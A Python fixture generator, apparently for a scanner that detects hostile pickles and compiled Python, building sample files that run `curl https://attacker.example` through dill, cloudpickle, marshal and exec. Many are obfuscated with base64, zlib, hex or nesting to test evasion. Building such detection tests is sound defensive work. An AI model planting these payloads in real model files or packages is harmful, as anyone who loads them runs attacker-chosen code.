"""
Code that files carry: code objects built by pickles, compiled Python, and payloads inside the literals of pickles.

The code is what CPython of the named version compiled from two lines, `import os` and `os.system("curl https://attacker.example")`, kept as
hexadecimal digits. Nothing here builds a code object.
"""

import base64
import zlib
from struct import pack

from assemble import *
from .case import CODE, COMMAND, EVIL, malformed, malicious, pickle

# The bytecode of `def f(x): import os; os.system(...); return x`.
F_3_8 = bytes.fromhex('640164006c007d017c01a0016402a10101007c005300')
F_3_11 = bytes.fromhex('9700640164006c007d017c01a00100000000000000000000000000000000000000006402a6010000ab01000000000000000001007c005300')
# `import os; os.system(...)` as a module, marshalled: 3.8, 3.11, 3.13.
MODULE_3_8 = bytes.fromhex('e30000000000000000000000000000000003000000400000007316000000640064016c005a006500a0016402a1010100640153002903e9000000004e7a1d6375726c2068747470733a2f2f61747461636b65722e6578616d706c652902da026f73da0673797374656da90072040000007204000000fa096d6f64756c652e7079da083c6d6f64756c653e0100000073020000000801')
MODULE_3_11 = bytes.fromhex('e30000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a1d6375726c2068747470733a2f2f61747461636b65722e6578616d706c652902da026f73da0673797374656da900f300000000fa096d6f64756c652e7079fa083c6d6f64756c653e7208000000010000007327000000f003010101d80009800980098009d8000980028409d00a29d1002ad4002ad0002ad0002ad0002a7206000000')
MODULE_3_13 = bytes.fromhex('e30000000000000000000000000300000000000000f3300000009500530053014b0072005c005202000000000000000000000000000000000000220053023501000000000000200067012903e9000000004e7a1d6375726c2068747470733a2f2f61747461636b65722e6578616d706c652902da026f73da0673797374656da900f300000000da096d6f64756c652e7079da083c6d6f64756c653e7208000000010000007315000000f003010101db0009d8000287098209d00a29d5002a7206000000')


def many(*items):
    return MARK + b''.join(items) + TUPLE


def integers(*values):
    return b''.join(integer(value) for value in values)


CONSTANTS = tuple_of(NONE, integer(0), text(COMMAND))
NAMES = tuple_of(text('os'), text('system'))
# The arguments of types.CodeType in its three layouts.
ARGUMENTS_3_6 = many(integers(1, 0, 2, 3, 67), data(F_3_8), CONSTANTS, NAMES, tuple_of(text('x'), text('os')), text('project.py'), text('f'), integer(1), data(b''), EMPTY_TUPLE, EMPTY_TUPLE)
ARGUMENTS_3_8 = many(integers(1, 0, 0, 2, 3, 67), data(F_3_8), CONSTANTS, NAMES, tuple_of(text('x'), text('os')), text('project.py'), text('f'), integer(1), data(b''), EMPTY_TUPLE, EMPTY_TUPLE)


def arguments_3_11(names=NAMES, first=b''):
    return many(first, integers(1, 0, 0, 2, 3, 3), data(F_3_11), CONSTANTS, names, tuple_of(text('x'), text('os')), text('project.py'), text('f'), text('f'),
                integer(1), data(b''), data(b''), EMPTY_TUPLE, EMPTY_TUPLE)


CLOUDPICKLE = 'cloudpickle.cloudpickle'
CODE_TYPE = call(stack_global(CLOUDPICKLE, '_builtin_type'), text('CodeType'))


def dill_function(arguments):
    return call(stack_global('dill._dill', '_create_function'), stack_global('dill._dill', '_create_code') + arguments + REDUCE, EMPTY_DICT, text('f'), NONE, NONE)


def cloudpickle_function(arguments):
    return call(stack_global(CLOUDPICKLE, '_make_function'), CODE_TYPE + arguments + REDUCE, EMPTY_DICT, text('f'), NONE, NONE)


def code(name, about, contains, body, expect='dangerous'):
    pickle(f'code-{name}', about, contains, proto(4) + body + STOP, expect)


code('dill-3.6', 'dill makes a function that runs a command; CPython 3.6 layout.', 'dill._dill._create_code', dill_function(ARGUMENTS_3_6))
code('dill-3.8', 'The same in the layout of CPython 3.8.', 'dill._dill._create_code', dill_function(ARGUMENTS_3_8))
code('dill-3.11', 'The same in the layout of CPython 3.11, with the line table that dill puts in front.', 'dill._dill._create_code',
     dill_function(arguments_3_11(first=data(b'\x00\x01'))))
code('cloudpickle', 'cloudpickle makes a function that runs a command when it is called.', f'{CLOUDPICKLE}._make_function', cloudpickle_function(arguments_3_11()))
code('cloudpickle-called', 'The stream calls the function that it has made.', f'{CLOUDPICKLE}._make_function',
     cloudpickle_function(arguments_3_11()) + tuple_of(integer(1)) + REDUCE)
code('types', 'types.CodeType and types.FunctionType, called at once.', 'types.CodeType types.FunctionType',
     call(call(stack_global('types', 'FunctionType'), stack_global('types', 'CodeType') + arguments_3_11() + REDUCE, EMPTY_DICT), integer(1)))
code('computed-type', 'The type of code objects is reached by an attribute of a module.', 'builtins.getattr',
     call(stack_global('builtins', 'getattr'), stack_global('sys', 'modules'), text('CodeType')) + arguments_3_11() + REDUCE)
code('names-not-shown', 'The names of the code are the result of a call.', 'dill._dill._create_code',
     dill_function(arguments_3_11(names=call(stack_global('some_private_pkg', 'names')))), 'suspicious')
code('import-module', 'dill imports os.system by name and it is called.', 'dill._dill._import_module',
     call(call(stack_global('dill._dill', '_import_module'), text('os.system')), text(COMMAND)))
code('subimport', 'cloudpickle hands out the module subprocess.', f'{CLOUDPICKLE}.subimport', call(stack_global(CLOUDPICKLE, 'subimport'), text('subprocess')))
# `def f(x): return o.system(x)`, where the stream gives os to the function as its global o.
ALIASED = many(integers(1, 0, 0, 1, 3, 3), data(bytes.fromhex('9700740000000000000000000000a00100000000000000000000000000000000000000007c00a6010000ab0100000000000000005300')),
               tuple_of(NONE), tuple_of(text('o'), text('system')), tuple_of(text('x')), text('project.py'), text('f'), text('f'), integer(1), data(b''), data(b''),
               EMPTY_TUPLE, EMPTY_TUPLE)
code('alias', 'The function knows os by another name.', 'dill._dill._import_module',
     call(stack_global('dill._dill', '_create_function'), stack_global('dill._dill', '_create_code') + ALIASED + REDUCE,
          dict_of((text('o'), call(stack_global('dill._dill', '_import_module'), text('os')))), text('f'), NONE, NONE))
code('text', 'The bytecode is a text, which dill encodes.', 'dill._dill._create_code',
     call(stack_global('dill._dill', '_create_function'), stack_global('dill._dill', '_create_code')
          + many(integers(1, 0, 0, 2, 3, 67), text('d\x01d\x00l\x00}\x01|\x01j\x01d\x02|\x00S\x00'), CONSTANTS, NAMES, tuple_of(text('x'), text('os')), text('project.py'), text('f'),
                 integer(1), data(b''), EMPTY_TUPLE, EMPTY_TUPLE) + REDUCE, EMPTY_DICT, text('f'), NONE, NONE))
code('namedtuple', 'dill looks for a named tuple where it is said to be defined, and finds os.system.', 'dill._dill._create_namedtuple',
     call(call(stack_global('dill._dill', '_create_namedtuple'), text('system'), EMPTY_TUPLE, text('os')), text(COMMAND)))
code('attribute-getter', 'dill hands out operator.attrgetter under another name.', 'dill._dill._load_type',
     call(call(call(stack_global('dill._dill', '_load_type'), text('AttrGetterType')), text('system')), call(stack_global('dill._dill', '_import_module'), text('os'))))
code('create-type', 'dill calls getattr as if it were a type.', 'dill._dill._create_type builtins.getattr',
     call(call(stack_global('dill._dill', '_create_type'), stack_global('builtins', 'getattr'), call(stack_global('dill._dill', '_import_module'), text('os')), text('system')), text(COMMAND)))
code('eval-repr', 'dill evaluates a text.', 'dill._dill._eval_repr', call(stack_global('dill._dill', '_eval_repr'), text(CODE)))
code('filehandle', 'dill opens a file for writing.', 'dill._dill._create_filehandle',
     call(stack_global('dill._dill', '_create_filehandle'), text('attacker.example.txt'), text('w'), integer(0), NEWTRUE, NONE, NONE, EMPTY_DICT, text('x')), 'suspicious')
code('marshal', 'marshal.loads of the code of a module that runs a command.', 'marshal.loads types.FunctionType',
     call(call(stack_global('types', 'FunctionType'), call(stack_global('marshal', 'loads'), data(MODULE_3_11)), EMPTY_DICT)))
code('marshal-compressed', 'The same, compressed and in base64.', 'marshal.loads zlib.decompress base64.b64decode',
     call(stack_global('builtins', 'exec'), call(stack_global('marshal', 'loads'),
          call(stack_global('zlib', 'decompress'), call(stack_global('base64', 'b64decode'), long_text(base64.b64encode(zlib.compress(MODULE_3_8, 9)).decode()))))))


# ── payloads inside literals ──

def held(name, about, body, contains='posix.system', expect='dangerous'):
    pickle(f'payload-{name}', about, contains, proto(4) + body + STOP, expect)


INNER = dict_of((text('config'), data(EVIL)))
held('bytes', 'A hostile pickle among the values of a dict; nothing in the stream loads it.', INNER)
held('deep', 'A hostile pickle in a pickle in a pickle.', dict_of((text('a'), data(proto(4) + INNER + STOP))))
held('base64', 'A hostile pickle in base64; nothing in the stream loads it.', dict_of((text('config'), text(base64.b64encode(EVIL).decode()))))
held('base64-lines', 'The same in lines, as bytes of Python 2.', dict_of((text('config'), short_string(base64.encodebytes(EVIL)))))
held('hex', 'A hostile pickle in hexadecimal digits.', dict_of((text('config'), text(EVIL.hex()))))
held('latin1', 'A hostile pickle as the text of its bytes.', dict_of((text('config'), long_text(EVIL.decode('latin-1')))))
held('zlib', 'A hostile pickle compressed by zlib.', dict_of((text('config'), data(zlib.compress(EVIL, 9)))))
held('bytearray', 'A hostile pickle in a bytearray.', dict_of((text('config'), b'\x96' + pack('<Q', len(EVIL)) + EVIL)))
held('tail', 'A hostile pickle in bytes, with more bytes behind it.', dict_of((text('config'), data(EVIL + b'\x00' * 40))))
held('marshal', 'The code of a module in bytes; nothing in the stream loads it.', dict_of((text('config'), data(MODULE_3_13))), '')
held('loads-old', 'pickle.loads of a hostile pickle of protocol 0, which has no mark of its own.',
     call(stack_global('pickle', 'loads'), data(b'cposix\nsystem\n(S\'curl https://attacker.example\'\ntR.')), 'pickle.loads posix.system')
held('string-line', 'A hostile pickle in a quoted line with escapes.',
     string_line(b"'" + b''.join(b'\\x%02x' % byte for byte in EVIL) + b"'"))
pickle('payload-behind-megabyte', 'A hostile pickle in bytes, behind a comment of base64 that is none.', 'posix.system',
       proto(4) + dict_of((text('note'), long_text('gAJ' + 'A' * 2000)), (text('config'), data(EVIL))) + STOP)
malicious('joblib/payload-compressed.joblib', 'A hostile pickle in bytes, inside a compressed pickle that can be read only once.', 'posix.system',
          zlib.compress(proto(4) + INNER + STOP, 9))


# ── compiled Python ──

def header(magic):
    return pack('<H', magic) + b'\r\n' + bytes(12)


malicious('python-bytecode/system-3.8.pyc', 'A module that runs a command, compiled by CPython 3.8.', '', header(3413) + MODULE_3_8)
malicious('python-bytecode/system-3.11.pyc', 'The same, compiled by CPython 3.11.', '', header(3495) + MODULE_3_11)
malicious('python-bytecode/system-3.13.pyc', 'The same, compiled by CPython 3.13.', '', header(3571) + MODULE_3_13)
malicious('python-bytecode/system.marshal', 'Marshalled code without a header.', '', MODULE_3_11)
malicious('python-bytecode/tail.pyc', 'Bytes follow the code.', '', header(3495) + MODULE_3_11 + b'more than the code')
malformed('python-bytecode/truncated.pyc', 'Cut in the middle of the code.', header(3495) + MODULE_3_11[:90])
malformed('python-bytecode/deep.pyc', 'Tuples nested deeper than CPython reads.', header(3495) + b'\xa9\x01' * 6000)
malformed('python-bytecode/python2.pyc', 'The header of Python 2.7.', pack('<H', 62211) + b'\r\n' + bytes(4) + b'c' + bytes(40))
